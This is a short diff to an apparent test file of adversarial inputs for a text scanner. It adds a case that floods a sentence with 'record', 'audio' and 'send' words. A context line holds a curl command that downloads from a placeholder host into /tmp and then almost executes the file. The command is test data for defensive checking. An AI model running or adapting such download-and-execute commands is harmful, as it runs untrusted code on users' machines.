@@ -48,4 +48,6 @@ export const ADVERSARIAL: Record<string, () => string> = {
   // and reference-style images whose definitions all need the use looked up.
   "downloads almost run": () => fill(`curl -o /tmp/${"a".repeat(150)} http://x.example/${"b".repeat(150)} && /tmp/${"a".repeat(149)}c\n`),
   "reference image definitions": () => fill(`![i][r${"1".repeat(50)}]\n[r${"1".repeat(49)}]: https://e.example/p?q=${"a+".repeat(30)}\n`),
+  // Collection instructions: many collect verbs, data words and send verbs in one sentence.
+  "collect and send soup": () => fill(`record ${"audio ".repeat(8)}${"send ".repeat(25)}`),
 };
